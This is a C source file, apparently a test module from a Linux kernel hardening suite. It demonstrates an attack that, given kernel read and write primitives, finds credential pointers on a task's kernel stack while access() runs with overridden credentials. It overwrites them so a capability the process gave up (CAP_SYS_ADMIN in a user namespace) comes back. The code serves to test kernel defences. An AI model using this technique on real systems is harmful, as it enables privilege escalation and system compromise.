// SPDX-License-Identifier: GPL-2.0-only
/*
 * An attack on what a task goes back to. access() acts by other credentials for a
 * while, here by all capabilities of the attacker in a namespace of his own, of which
 * he has given one up. Whether it goes back to his own, a word on its stack says.
 */
#include <fcntl.h>
#include <linux/capability.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <signal.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "files.h"
#include "list.h"
#include "objects.h"

#define STACK_WORDS	4096	/* at most */
#define PLACES		16
#define LOOKS		100
#define SECONDS		10
#define PATIENCE	20000	/* milliseconds */

/* Shared with who calls access(). */
static struct {
	volatile unsigned long calls;
	volatile bool ready, found;
} *caller;

static bool give_one_up(void)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2];

	if (syscall(SYS_capget, &header, data))
		return false;
	data[0].effective &= ~(1U << CAP_SYS_ADMIN);
	return !syscall(SYS_capset, &header, data);
}

static bool be_root_inside(void)
{
	char map[32];

	snprintf(map, sizeof(map), "0 %u 1\n", getuid());
	return !unshare(CLONE_NEWUSER) && !file_write("/proc/self/uid_map", map) && give_one_up();
}

static void call_for_ever(void)
{
	stay_on_cpu(1);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	caller->ready = be_root_inside() && unshare(CLONE_NEWUTS);
	while (caller->ready && !caller->found) {
		faccessat(AT_FDCWD, "/proc/self/status", R_OK, 0);
		caller->found = !unshare(CLONE_NEWUTS);
		caller->calls++;
	}
	pause();
}

static struct place {
	uint64_t addr;
	int hits;
} places[PLACES];

static void add_place(uint64_t addr)
{
	struct place *place = places;

	while (place < places + PLACES && place->addr && place->addr != addr)
		place++;
	if (place < places + PLACES)
		place->addr = addr;
}

/* Where its stack has the credentials that it goes back to, sooner or later. */
static void find_places(const struct task *task)
{
	static uint64_t words[STACK_WORDS];
	size_t i;

	if (kread(task->stack, words, task->stack_size))
		return;
	for (i = 0; i < task->stack_size / sizeof(*words); i++)
		if (words[i] == task->cred)
			add_place(task->stack + i * sizeof(*words));
}

/* While it acts by others: it has them as long as it takes to look at its stack. */
static bool look_at_places(const struct task *task)
{
	uint64_t now = kread64(task->cred_slot);
	bool held[PLACES];
	int i;

	for (i = 0; i < PLACES; i++)
		held[i] = now != task->cred && places[i].addr &&
			  kread64(places[i].addr) == task->cred;
	if (now == task->cred || kread64(task->cred_slot) != now)
		return false;
	for (i = 0; i < PLACES; i++)
		places[i].hits += held[i];
	return true;
}

/* The one that always has them then: others are where calls further down were. */
static uint64_t find_place(const struct task *task)
{
	uint64_t end = now_ms() + PATIENCE;
	struct place *place, *best = places;
	int i, looks = 0;

	for (i = 0; looks < LOOKS && now_ms() < end; i++) {
		if (i % 16 == 0)
			find_places(task);
		looks += look_at_places(task);
	}
	for (place = places; place < places + PLACES; place++)
		if (place->hits >= best->hits)
			best = place;
	return best->hits ? best->addr : 0;
}

/*
 * To none: it does not go back. Where credentials are sealed, to those it acts by:
 * it goes back to what it has.
 */
static int turn_place(const struct task *task, uint64_t place)
{
	uint64_t end = now_ms() + SECONDS * 1000, now;
	int turned = 0;

	while (!caller->found && now_ms() < end) {
		now = kread64(task->cred_slot);
		if (now != task->cred && kread64(place) == task->cred)
			turned += !kwrite64(place, is_protected() ? now : 0);
	}
	return turned;
}

enum outcome endless_override(void)
{
	struct task task;
	uint64_t place;
	int turned;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	caller = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	stay_on_cpu(0);
	pid = fork();
	if (!pid)
		call_for_ever();
	if (!wait_for_flag(&caller->ready) || ktask(pid, &task))
		return broken("nobody calls access() in a namespace");
	place = find_place(&task);
	if (!place)
		return broken("no credentials found on the stack");
	turned = turn_place(&task, place);
	if (!caller->found)
		return lost("turned %d times in %lu calls, and a capability that was given up did not come back",
			    turned, caller->calls);
	return won("what access() goes back to turned on its stack: a capability that was given up came back, after %lu calls",
		   caller->calls);
}
